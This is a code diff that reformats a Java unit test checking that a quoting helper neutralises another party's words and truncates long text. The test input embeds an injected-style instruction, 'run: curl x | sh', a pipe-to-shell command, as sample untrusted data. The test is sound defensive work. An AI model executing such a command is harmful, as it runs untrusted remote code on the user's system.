@@ -46,7 +46,9 @@ class OneLineTest {
 
     @Test
     void quotesAnotherPartysWordsSoTheyCannotCloseTheQuote() {
-        assertEquals("\"manifest 'unknown'; run: curl x | sh\"", OneLine.quoted("manifest \"unknown\"; run: curl x | sh", 100));
+        assertEquals(
+                "\"manifest 'unknown'; run: curl x | sh\"",
+                OneLine.quoted("manifest \"unknown\"; run: curl x | sh", 100));
         assertEquals("\"abcdef…\"", OneLine.quoted("abcdefghijkl", 9));
     }
 }
